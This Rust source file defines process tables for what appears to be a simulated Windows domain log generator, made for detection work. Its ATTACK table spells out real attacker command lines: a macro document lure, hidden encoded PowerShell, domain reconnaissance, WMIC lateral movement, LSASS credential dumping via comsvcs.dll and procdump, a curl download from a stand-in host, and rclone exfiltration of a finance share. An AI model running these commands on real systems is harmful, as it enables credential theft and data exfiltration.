//! The programs of the domain: what runs at boot, what users and services start, what the attacker uses.
//!
//! In command lines and paths `{user}` is the profile name of the host's user, `{hex}` eight random hex digits, `{number}`
//! a random number, `{document}` a document name.

use super::world::Role;

/// The account a program runs under.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Account {
    /// `NT AUTHORITY\SYSTEM`
    System,
    /// `NT AUTHORITY\NETWORK SERVICE`
    NetworkService,
    /// `NT AUTHORITY\LOCAL SERVICE`
    LocalService,
    /// The host's user.
    User,
}

/// Which hosts run a program.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// All of them.
    Everywhere,
    /// Domain controllers.
    Controllers,
    /// Servers that are no domain controllers.
    Servers,
    /// Workstations.
    Workstations,
}

impl Place {
    /// True if hosts of that role are of this place.
    pub fn has(self, role: Role) -> bool {
        match self {
            Self::Everywhere => true,
            Self::Controllers => role == Role::Controller,
            Self::Servers => role == Role::Server,
            Self::Workstations => role == Role::Workstation,
        }
    }
}

/// What a program says on the network.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Traffic {
    /// Nothing.
    None,
    /// Web sites: a DNS query and HTTPS.
    Web,
    /// The vendor's services in the cloud.
    Cloud,
    /// The domain controller: Kerberos, LDAP, SMB.
    Domain,
    /// DNS itself, port 53.
    Resolver,
    /// The file server, and nothing else is ever logged of this program: it is known from its connections alone.
    Quiet,
}

/// A program.
#[derive(Debug)]
pub struct Program {
    /// Full path.
    pub image: &'static str,
    /// A command line; programs that have several stand in the table several times.
    pub command_line: &'static str,
    /// File name of the program that starts it, or a service's part of `svchost.exe`'s command line, from its dash on.
    pub parent: &'static str,
    /// Its account.
    pub account: Account,
    /// Where it runs.
    pub place: Place,
    /// Its traffic.
    pub traffic: Traffic,
    /// `Description`, `Product`, `Company` of its version resource.
    pub about: [&'static str; 3],
}

impl Program {
    /// The file name.
    pub fn name(&self) -> &'static str {
        self.image.rsplit('\\').next().unwrap_or(self.image)
    }
}

const WINDOWS: &str = "Microsoft® Windows® Operating System";
const MICROSOFT: &str = "Microsoft Corporation";

/// A row of the tables below; `about` is the description, as part of Windows.
const fn windows(
    image: &'static str,
    command_line: &'static str,
    parent: &'static str,
    account: Account,
    place: Place,
    traffic: Traffic,
    description: &'static str,
) -> Program {
    Program {
        image,
        command_line,
        parent,
        account,
        place,
        traffic,
        about: [description, WINDOWS, MICROSOFT],
    }
}

/// A row for a program of another product.
const fn product(
    image: &'static str,
    command_line: &'static str,
    parent: &'static str,
    account: Account,
    place: Place,
    traffic: Traffic,
    about: [&'static str; 3],
) -> Program {
    Program { image, command_line, parent, account, place, traffic, about }
}

use Account::{LocalService, NetworkService, System, User};
use Place::{Controllers, Everywhere, Servers, Workstations};
use Traffic::{Cloud, Domain, None, Quiet, Resolver, Web};

/// What runs when the capture begins, parents first. None of these has an event 1.
#[rustfmt::skip]
pub static BOOT: &[Program] = &[
    windows("System", "", "", System, Everywhere, Quiet, "-"),
    windows(r"C:\Windows\System32\smss.exe", r"\SystemRoot\System32\smss.exe", "System", System, Everywhere, None, "Windows Session Manager"),
    windows(r"C:\Windows\System32\csrss.exe", r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768", "smss.exe", System, Everywhere, None, "Client Server Runtime Process"),
    windows(r"C:\Windows\System32\wininit.exe", "wininit.exe", "smss.exe", System, Everywhere, None, "Windows Start-Up Application"),
    windows(r"C:\Windows\System32\winlogon.exe", "winlogon.exe", "smss.exe", System, Everywhere, None, "Windows Logon Application"),
    windows(r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe", "wininit.exe", System, Everywhere, None, "Services and Controller app"),
    windows(r"C:\Windows\System32\lsass.exe", r"C:\Windows\system32\lsass.exe", "wininit.exe", System, Everywhere, Domain, "Local Security Authority Process"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", "services.exe", System, Everywhere, None, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k RPCSS -p", "services.exe", NetworkService, Everywhere, Domain, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "services.exe", System, Everywhere, None, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt", "services.exe", System, Everywhere, None, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", "services.exe", System, Everywhere, Cloud, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", "services.exe", NetworkService, Everywhere, Resolver, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog", "services.exe", LocalService, Everywhere, None, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k NetSvcs -p -s BITS", "services.exe", System, Everywhere, Cloud, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k utcsvc -p -s DiagTrack", "services.exe", System, Workstations, Cloud, "Host Process for Windows Services"),
    windows(r"C:\Windows\System32\spoolsv.exe", r"C:\Windows\System32\spoolsv.exe", "services.exe", System, Everywhere, None, "Spooler SubSystem App"),
    windows(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MsMpEng.exe", r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MsMpEng.exe""#, "services.exe", System, Everywhere, Cloud, "Antimalware Service Executable"),
    product(r"C:\Windows\Sysmon64.exe", r"C:\Windows\Sysmon64.exe", "services.exe", System, Everywhere, None, ["System activity monitor", "Sysinternals Sysmon", "Sysinternals - www.sysinternals.com"]),
    product(r"C:\Program Files\Northlight Backup\nlagent.exe", r#""C:\Program Files\Northlight Backup\nlagent.exe" --service"#, "services.exe", System, Everywhere, Quiet, ["Backup agent", "Northlight Backup", "Northlight Software"]),
    windows(r"C:\Windows\System32\dns.exe", r"C:\Windows\system32\dns.exe", "services.exe", System, Controllers, Resolver, "Domain Name System (DNS) Server"),
    windows(r"C:\Windows\System32\dfsrs.exe", r"C:\Windows\system32\DFSRs.exe", "services.exe", System, Controllers, Domain, "Distributed File System Replication"),
    product(r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe", r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#, "services.exe", NetworkService, Servers, Domain, ["SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", MICROSOFT]),
    windows(r"C:\Windows\System32\inetsrv\w3wp.exe", r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0""#, "svchost.exe", NetworkService, Servers, None, "IIS Worker Process"),
    windows(r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", "winlogon.exe", User, Everywhere, None, "Windows Explorer"),
    windows(r"C:\Windows\System32\sihost.exe", "sihost.exe", "svchost.exe", User, Workstations, None, "Shell Infrastructure Host"),
    windows(r"C:\Windows\System32\ctfmon.exe", "ctfmon.exe", "svchost.exe", User, Workstations, None, "CTF Loader"),
];

/// What users and services start during the day, with weights.
#[rustfmt::skip]
pub static DAILY: &[(u64, Program)] = &[
    (6, product(r"C:\Program Files\Google\Chrome\Application\chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" "#, "explorer.exe", User, Workstations, Web, ["Google Chrome", "Google Chrome", "Google LLC"])),
    (10, product(r"C:\Program Files\Google\Chrome\Application\chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-GB --device-scale-factor=1 --renderer-client-id={number}"#, "chrome.exe", User, Workstations, None, ["Google Chrome", "Google Chrome", "Google LLC"])),
    (4, product(r"C:\Program Files\Google\Chrome\Application\chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB"#, "chrome.exe", User, Workstations, Web, ["Google Chrome", "Google Chrome", "Google LLC"])),
    (5, product(r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start"#, "explorer.exe", User, Workstations, Web, ["Microsoft Edge", "Microsoft Edge", MICROSOFT])),
    (6, product(r"C:\Program Files (x86)\Microsoft\Edge\Application\msedgewebview2.exe", r#""C:\Program Files (x86)\Microsoft\EdgeWebView\Application\msedgewebview2.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --embedded-browser-webview=1"#, "explorer.exe", User, Workstations, Web, ["Microsoft Edge WebView2", "Microsoft Edge WebView2", MICROSOFT])),
    (4, product(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", r#""C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --system-initiated"#, "explorer.exe", User, Workstations, Cloud, ["Microsoft Teams", "Microsoft Teams", MICROSOFT])),
    (4, product(r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" "#, "explorer.exe", User, Workstations, Cloud, ["Microsoft Outlook", "Microsoft Office", MICROSOFT])),
    (5, product(r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{document}.docx" /o """#, "explorer.exe", User, Workstations, Cloud, ["Microsoft Word", "Microsoft Office", MICROSOFT])),
    (5, product(r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{user}\Documents\{document}.xlsx""#, "explorer.exe", User, Workstations, Cloud, ["Microsoft Excel", "Microsoft Office", MICROSOFT])),
    (3, windows(r"C:\Windows\System32\notepad.exe", r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Desktop\{document}.txt"#, "explorer.exe", User, Everywhere, None, "Notepad")),
    (3, product(r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", r#""C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#, "explorer.exe", User, Workstations, Cloud, ["Microsoft OneDrive", "Microsoft OneDrive", MICROSOFT])),
    (12, windows(r"C:\Windows\System32\backgroundTaskHost.exe", r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{hex}.mca"#, "-k DcomLaunch", User, Workstations, Cloud, "Background Task Host")),
    (10, windows(r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding", "-k DcomLaunch", User, Workstations, None, "Runtime Broker")),
    (14, windows(r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "cmd.exe", User, Everywhere, None, "Console Window Host")),
    (9, windows(r"C:\Windows\System32\cmd.exe", r#"C:\Windows\system32\cmd.exe /c "\\fs01\netlogon\inventory.cmd" & rem <{hex}>"#, "-s Schedule", System, Everywhere, None, "Windows Command Processor")),
    (10, windows(r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe Install $(Arg0)", "-s Schedule", System, Everywhere, None, "Host Process for Windows Tasks")),
    (9, windows(r"C:\Windows\System32\dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "-k DcomLaunch", System, Everywhere, None, "COM Surrogate")),
    (9, windows(r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", "-k DcomLaunch", NetworkService, Everywhere, None, "WMI Provider Host")),
    (8, windows(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k wsappx -p -s ClipSVC", "services.exe", System, Everywhere, Cloud, "Host Process for Windows Services")),
    (6, windows(r"C:\Windows\System32\SearchProtocolHost.exe", r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{number}_ Global\UsGthrCtrlFltPipeMssGthrPipe{number} 1 -2147483646"#, "services.exe", System, Everywhere, None, "Microsoft Windows Search Protocol Host")),
    (4, windows(r"C:\Windows\System32\sppsvc.exe", r"C:\Windows\system32\sppsvc.exe", "services.exe", NetworkService, Everywhere, Cloud, "Microsoft Software Protection Platform Service")),
    (4, windows(r"C:\Windows\servicing\TrustedInstaller.exe", r"C:\Windows\servicing\TrustedInstaller.exe", "services.exe", System, Everywhere, None, "Windows Modules Installer")),
    (5, product(r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler"#, "-s Schedule", System, Workstations, Cloud, ["Google Installer", "Google Update", "Google LLC"])),
    (5, windows(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\Scripts\Check-Disk.ps1 -Report '{hex}'", "-s Schedule", System, Everywhere, Domain, "Windows PowerShell")),
    (3, windows(r"C:\Windows\System32\gpupdate.exe", r"C:\Windows\system32\gpupdate.exe /target:computer", "-s Schedule", System, Everywhere, Domain, "Microsoft® Group Policy Update Utility")),
    (3, windows(r"C:\Windows\System32\mmc.exe", r#""C:\Windows\system32\mmc.exe" C:\Windows\system32\services.msc"#, "explorer.exe", User, Everywhere, None, "Microsoft Management Console")),
    (2, windows(r"C:\Windows\System32\net.exe", r"net use H: \\fs01\home\{user}", "cmd.exe", User, Everywhere, None, "Net Command")),
    (2, windows(r"C:\Windows\System32\whoami.exe", "whoami /upn", "cmd.exe", User, Everywhere, None, "whoami - displays logged on user information")),
];

/// What the attacker runs. The encoded commands print one line of text; nothing here does anything.
#[rustfmt::skip]
pub static ATTACK: &[Program] = &[
    product(r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" "#, "explorer.exe", User, Everywhere, Cloud, ["Microsoft Outlook", "Microsoft Office", MICROSOFT]),
    product(r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}\Invoice 4711 (overdue).docm" /o """#, "OUTLOOK.EXE", User, Everywhere, None, ["Microsoft Word", "Microsoft Office", MICROSOFT]),
    windows(r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\cmd.exe /c start /b powershell", "WINWORD.EXE", User, Everywhere, None, "Windows Command Processor"),
    windows(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAZQBsAGsAZgBsAG8AdwAgAHMAYQBtAHAAbABlADoAIABzAHQAYQBnAGUAIABvAG4AZQAnAA==", "cmd.exe", User, Everywhere, None, "Windows PowerShell"),
    windows(r"C:\Windows\System32\whoami.exe", r#""C:\Windows\system32\whoami.exe" /all"#, "powershell.exe", User, Everywhere, None, "whoami - displays logged on user information"),
    windows(r"C:\Windows\System32\systeminfo.exe", r#""C:\Windows\system32\systeminfo.exe""#, "powershell.exe", User, Everywhere, None, "Displays system information"),
    windows(r"C:\Windows\System32\nltest.exe", r#""C:\Windows\system32\nltest.exe" /domain_trusts /all_trusts"#, "powershell.exe", User, Everywhere, None, "Microsoft® Logon Server Test Utility"),
    windows(r"C:\Windows\System32\net.exe", r#""C:\Windows\system32\net.exe" group "Domain Admins" /domain"#, "powershell.exe", User, Everywhere, None, "Net Command"),
    windows(r"C:\Windows\System32\net1.exe", r#"C:\Windows\system32\net1 group "Domain Admins" /domain"#, "net.exe", User, Everywhere, None, "Net Command"),
    windows(r"C:\Windows\System32\wbem\WMIC.exe", r#""C:\Windows\System32\Wbem\WMIC.exe" /node:FS01 process call create "powershell -NoP -W Hidden -Enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAZQBsAGsAZgBsAG8AdwAgAHMAYQBtAHAAbABlADoAIABsAGEAdABlAHIAYQBsACAAbQBvAHYAZQBtAGUAbgB0ACcA""#, "powershell.exe", User, Everywhere, None, "WMI Commandline Utility"),
    windows(r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", "-k DcomLaunch", NetworkService, Everywhere, None, "WMI Provider Host"),
    windows(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -NoP -W Hidden -Enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAZQBsAGsAZgBsAG8AdwAgAHMAYQBtAHAAbABlADoAIABsAGEAdABlAHIAYQBsACAAbQBvAHYAZQBtAGUAbgB0ACcA", "WmiPrvSE.exe", User, Everywhere, None, "Windows PowerShell"),
    windows(r"C:\Windows\System32\mmc.exe", r"C:\Windows\system32\mmc.exe -Embedding", "-k DcomLaunch", User, Everywhere, None, "Microsoft Management Console"),
    windows(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoP -W Hidden -Enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGgAZQBsAGsAZgBsAG8AdwAgAHMAYQBtAHAAbABlADoAIABkAGMAbwBtACcA", "mmc.exe", User, Everywhere, None, "Windows PowerShell"),
    windows(r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {number} C:\Windows\Temp\{hex}.dmp full", "powershell.exe", System, Everywhere, None, "Windows host process (Rundll32)"),
    product(r"C:\Users\Public\procdump64.exe", r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\ls.dmp", "powershell.exe", User, Everywhere, None, ["Sysinternals process dump utility", "ProcDump", "Sysinternals - www.sysinternals.com"]),
    windows(r"C:\Windows\System32\curl.exe", r#""C:\Windows\system32\curl.exe" -s -o C:\Users\Public\rc.zip https://files.cdn-static.example/rc.zip"#, "powershell.exe", User, Everywhere, None, "The curl executable"),
    product(r"C:\Users\Public\rclone.exe", r"C:\Users\Public\rclone.exe copy \\fs01\finance remote:{hex} --transfers 8 --no-check-certificate", "powershell.exe", User, Everywhere, None, ["Rsync for cloud storage", "Rclone", "https://rclone.org"]),
];
